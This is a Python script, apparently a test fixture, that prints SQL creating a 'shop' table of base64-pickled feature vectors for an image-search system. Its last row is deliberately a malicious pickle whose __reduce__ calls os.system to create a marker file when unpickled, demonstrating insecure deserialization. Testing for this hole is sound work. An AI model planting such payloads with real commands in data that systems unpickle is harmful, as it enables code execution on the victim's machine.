"""Prints SQL that makes a table as the first Python system fills it: base64(pickle.dumps(float32 array)) in every row.

    python3 make_table.py 10000 2048 | mariadb shop

The last row is no vector but a pickle that would run a command when it is unpickled.
"""
import base64
import os
import pickle
import sys

import numpy as np

ROWS, DIMENSION = int(sys.argv[1]), int(sys.argv[2])


class Hostile:
    def __reduce__(self):
        return (os.system, ("touch imagesearch-was-run",))


def encode(value):
    return base64.b64encode(pickle.dumps(value)).decode()


print(
    "CREATE TABLE IF NOT EXISTS shop ( id BIGINT ( 20 ) UNSIGNED NOT NULL AUTO_INCREMENT, milvus_id BIGINT ( 20 ), "
    "tags VARCHAR ( 32 ), brief VARCHAR ( 500 ), feature MEDIUMTEXT, upload_status tinyint(2) DEFAULT '0', "
    "create_date datetime ( 3 ) DEFAULT CURRENT_TIMESTAMP ( 3 ), "
    "modify_date datetime ( 3 ) DEFAULT CURRENT_TIMESTAMP ( 3 ) ON UPDATE CURRENT_TIMESTAMP ( 3 ), PRIMARY KEY ( `id` ), "
    "KEY `idx_tags` ( `tags` ) USING BTREE, KEY `idx_milvus_id` ( `milvus_id` ) ) ENGINE = INNODB DEFAULT CHARSET = utf8;"
)
random = np.random.default_rng(1)
for start in range(0, ROWS, 100):
    rows = []
    for number in range(start, min(start + 100, ROWS)):
        vector = random.standard_normal(DIMENSION).astype(np.float32)
        value = Hostile() if number == ROWS - 1 else vector / np.linalg.norm(vector)
        rows.append(f"({445085583623111723 + number},'tag{number % 50}','row {number + 1}','{encode(value)}',1)")
    print(f"INSERT INTO shop (milvus_id,tags,brief,feature,upload_status) VALUES {','.join(rows)};")
